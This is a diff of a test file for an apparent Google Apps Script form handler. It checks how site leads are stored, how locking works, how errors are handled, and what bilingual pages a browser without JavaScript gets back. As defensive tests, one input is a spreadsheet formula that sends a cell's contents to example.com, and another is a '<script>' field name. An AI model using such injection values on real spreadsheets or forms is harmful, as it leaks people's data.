@@ -25,17 +25,17 @@ beforeEach(() => {
 
 const post = (fields: Fields) => script.doPost(eventOf(fields));
 
-const result = (fields: Fields) =>
+const postAndParse = (fields: Fields) =>
   JSON.parse(post(fields).body) as { ok: boolean; error?: string };
 
-/** The leads of a tab, up to the time of receipt. */
+/** The rows of a tab without the headings, with the columns up to and including receivedAt. */
 const rows = (tab = "Booking") =>
   (google.sheets?.[tab]?.rows ?? [])
     .slice(1)
     .map((cells) => cells.slice(0, tab === "Booking" ? 6 : 10));
 
 describe("a request sent by the site", () => {
-  test("is one row with the server's time in the tab of its form, and the answer says so", () => {
+  test("is stored as one row, with receivedAt, in the tab of its form, and gets ok: true", () => {
     expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
     post(consultation);
 
@@ -50,7 +50,7 @@ describe("a request sent by the site", () => {
     expect(google.locked).toBe(false);
   });
 
-  test("reads as typed: Hindi, line breaks, a zero in front, and formulas that do not run", () => {
+  test("is stored as typed: Hindi, line breaks, a leading zero, and formulas that do not run", () => {
     const typed = {
       ...booking,
       parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
@@ -64,47 +64,47 @@ describe("a request sent by the site", () => {
   });
 });
 
-test("two posts at once, below a full sheet, are one row for one request, two for two", () => {
+test("of two simultaneous posts, equal ones become one row and different ones two, also when the sheet must grow", () => {
   google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
   post(booking);
   google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
   post({ ...booking, parentName: "Meera" });
 
   const names = rows().map(([name]) => name);
-  // More leads than a new tab of the fake has rows.
+  // A new tab of the fake has three rows. The headings and three leads need a fourth.
   expect(names).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
   expect(google.mails).toHaveLength(3);
 });
 
-describe("the parent is told the truth", () => {
-  test("when the row cannot be written; the lock is free and a second try works", () => {
+describe("the answer is an error, not ok", () => {
+  test("when the row cannot be written; the lock is released and a second attempt succeeds", () => {
     post(consultation);
     const sheet = google.sheets!.Consultation!;
     const lead = { ...consultation, childName: "Rani" };
     sheet.isFailing = true;
 
-    expect(result(lead)).toEqual({ ok: false, error: trouble });
+    expect(postAndParse(lead)).toEqual({ ok: false, error: trouble });
     expect(google.locked).toBe(false);
     expect(google.mails).toHaveLength(1);
     expect(google.log.join()).not.toContain("Asha");
 
     sheet.isFailing = false;
-    expect(result(lead)).toEqual({ ok: true });
+    expect(postAndParse(lead)).toEqual({ ok: true });
     expect(rows("Consultation")).toHaveLength(2);
   });
 
   test("when the script belongs to no spreadsheet", () => {
     google.sheets = undefined;
 
-    expect(result(booking)).toEqual({ ok: false, error: trouble });
+    expect(postAndParse(booking)).toEqual({ ok: false, error: trouble });
     expect(google.log.join()).toContain("no spreadsheet");
   });
 
-  test("when the lead is not one, is repeated in part, or is not what Google promises", () => {
+  test("when a field is unknown or sent twice, or the event is not in Google's format", () => {
     const unknown = { ...booking, card: "1" };
     const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };
 
-    expect(result(unknown).error).toMatch(/"card"\.$/);
+    expect(postAndParse(unknown).error).toMatch(/"card"\.$/);
     expect(script.doPost({ parameters: twice }).body).toContain("twice");
     for (const event of [undefined, null, {}, { parameters: { location: 5 } }])
       expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
@@ -112,14 +112,14 @@ describe("the parent is told the truth", () => {
   });
 });
 
-describe("a browser that posted without scripts", () => {
-  const native = without("timestamp", booking);
+describe("a browser without JavaScript", () => {
+  const nativePost = without("timestamp", booking);
 
   const sectionIn = ({ code }: Language, body: string) =>
     body.split(`<section lang="${code}">`)[1]?.split("</section>")[0];
 
-  test("shows the site's thanks in each language of the site, and the row has the server's time", () => {
-    const answer = post({ ...native, timestamp: "" });
+  test("shows the site's thanks in each language of the site, and the empty timestamp is filled with the server's time", () => {
+    const answer = post({ ...nativePost, timestamp: "" });
 
     expect(answer).toMatchObject({ type: "html", title: "Thank you | धन्यवाद" });
     for (const language of languages)
@@ -130,8 +130,8 @@ describe("a browser that posted without scripts", () => {
     expect(rows()[0]!.at(-2)).toBe("2026-11-21T07:00:00.000Z");
   });
 
-  test("is told in each language what was wrong, with markup shown as text, and whom to call", () => {
-    const answer = post({ ...native, "<script>": "" });
+  test("gets the error in each language, with markup shown as text, and the number to call", () => {
+    const answer = post({ ...nativePost, "<script>": "" });
 
     expect(answer.title).toBe("Your request was not sent | आपका फ़ॉर्म नहीं गया");
     for (const language of languages)
@@ -142,9 +142,9 @@ describe("a browser that posted without scripts", () => {
     expect(rows()).toEqual([]);
   });
 
-  test("gets a plain answer when no page can be made", () => {
+  test("gets the JSON answer when Google cannot make a page", () => {
     google.pagesWork = false;
 
-    expect(post(native)).toEqual({ type: "json", body: '{"ok":true}' });
+    expect(post(nativePost)).toEqual({ type: "json", body: '{"ok":true}' });
   });
 });
